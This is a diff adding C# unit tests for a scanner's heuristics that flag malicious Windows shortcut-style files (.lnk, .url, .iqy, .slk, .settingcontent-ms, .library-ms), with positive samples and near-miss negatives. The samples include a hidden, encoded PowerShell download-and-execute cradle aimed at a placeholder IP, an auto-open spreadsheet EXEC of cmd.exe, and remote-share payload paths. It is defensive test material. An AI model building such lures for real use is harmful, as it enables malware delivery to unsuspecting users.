@@ -1,0 +1,65 @@
+using ScanHost.Formats.Containers;
+using ScanHost.Pipeline.Findings;
+using ScanHost.Pipeline.Tests.Doubles;
+using ScanHost.TestKit;
+using static ScanHost.Pipeline.Findings.ShortcutHeuristics;
+
+namespace ScanHost.Pipeline.Tests.Stages.Shortcuts;
+
+public sealed class ShortcutsStageTests
+{
+    private const string Cmd = @"C:\Windows\System32\cmd.exe";
+    private const string Program = @"C:\Program Files\App\app.exe";
+
+    private static readonly HeuristicCase[] Table =
+    [
+        Lnk(Launcher, new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Program).With("/k"), new LinkBuilder().To(@"C:\cmd.exe.txt"), new LinkBuilder().To(@"C:\docs\powershell.pdf")),
+        Lnk(LauncherCommand, new LinkBuilder().To(Cmd).With("/c start /min powershell -enc " + InertFiles.EncodedCommand("Get-Date")),
+            new LinkBuilder().To(Cmd).With("/k prompt.bat"), new LinkBuilder().To(Program).With("https://app.invalid/"), new LinkBuilder().To(Cmd).With("/c \"C:\\App\\start.bat\"")),
+        Lnk(Padded, new LinkBuilder().To(Cmd).With("a" + new string(' ', 60) + "b"), new LinkBuilder().To(Cmd).With("a" + new string(' ', 8) + "b"),
+            new LinkBuilder().To(Program).With(new string('a', 300)), new LinkBuilder().To(Cmd).With(new string('a', 200))),
+        Lnk(Appended, new LinkBuilder().To(Program).Append("data behind the end"u8.ToArray()), new LinkBuilder().To(Program), new LinkBuilder().To(Program).Append(new byte[64]), new LinkBuilder().To(Program).From("pc")),
+        Lnk(IconMismatch, new LinkBuilder().To(Cmd).With("x").Icon(@"C:\Office\winword.exe"), new LinkBuilder().To(Cmd).With("x").Icon(Cmd),
+            new LinkBuilder().To(@"C:\Office\winword.exe").With("x").Icon(@"C:\Office\winword.exe"), new LinkBuilder().To(Cmd).With("x").Icon(@"C:\Windows\System32\shell32.dll")),
+        Lnk(Remote, new LinkBuilder().To(Program).With("x").Icon(@"\\192.0.2.1\share\a.ico"), new LinkBuilder().To(Program).With("x").Icon(@"C:\a.ico"),
+            new LinkBuilder().To(@"\\?\C:\a.exe"), new LinkBuilder().To(Program).With("/share:\\\\host")),
+        Lnk(EnvironmentTarget, new LinkBuilder().Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Cmd).Environment(@"%windir%\system32\cmd.exe"), new LinkBuilder().To(Program), new LinkBuilder().From("pc")),
+        HeuristicCase.Of(UrlRemoteFile, "a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\n",
+            "[InternetShortcut]\r\nURL=file:///C:/docs/index.html\r\n", "[InternetShortcut]\r\nURL=https://host.invalid/\r\nIconFile=C:\\a.ico\r\n"),
+        HeuristicCase.Of(QueryCommand, "a.iqy", "WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n", "WEB\r\n1\r\nhttp://investor.msn.com/q.asp\r\n", "WEB\r\n1\r\nC:\\local.html\r\n", "WEB\r\nsite\r\nhttp://192.0.2.1/\r\n"),
+        HeuristicCase.Of(SheetExec, "a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"cmd.exe\")\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"exec\"\r\nE\r\n",
+            "ID;PWXL;N;E\r\nC;X1;Y1;ESUM(R1C1)\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"call (me)\"\r\nE\r\n"),
+        HeuristicCase.Of(SettingExec, "a.settingcontent-ms", Setting("%windir%\\system32\\cmd.exe /c calc"), Setting("%windir%\\system32\\control.exe"), Setting("ms-settings:display"), Setting("C:\\cmd\\app.exe")),
+        HeuristicCase.Of(RemoteLibrary, "a.library-ms", Library("\\\\192.0.2.1\\share"), Library("shell:Documents"), Library("C:\\Docs"), Library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
+    ];
+
+    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];
+
+    [Theory]
+    [MemberData(nameof(Rows))]
+    public Task A_shortcut_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();
+
+    [Fact]
+    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic).Should().BeEquivalentTo(All);
+
+    [Fact]
+    public async Task The_command_of_a_shortcut_is_looked_at_as_one()
+    {
+        using var scans = new Scans { Readers = ContainerReaders.All };
+        var script = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
+
+        var outcome = await scans.ScanAsync(new LinkBuilder().To(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe").With("-w hidden -enc " + script).From("desktop-1").Build(), "a.lnk");
+
+        outcome.Findings.Should().Contain(finding => finding.Id == ScriptHeuristics.PsDownloadRun.Id);
+        outcome.Artifacts[0].Facts["shortcuts"]["machine_id"]!.GetValue<string>().Should().Be("desktop-1");
+    }
+
+    private static HeuristicCase Lnk(Heuristic heuristic, LinkBuilder positive, params LinkBuilder[] negatives) =>
+        new(heuristic, new("a.lnk", positive.Build()), [.. negatives.Select(link => new SampleFile("a.lnk", link.Build()))]);
+
+    private static string Setting(string deepLink) =>
+        $"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>{deepLink}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>";
+
+    private static string Library(string url) =>
+        $"<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>";
+}
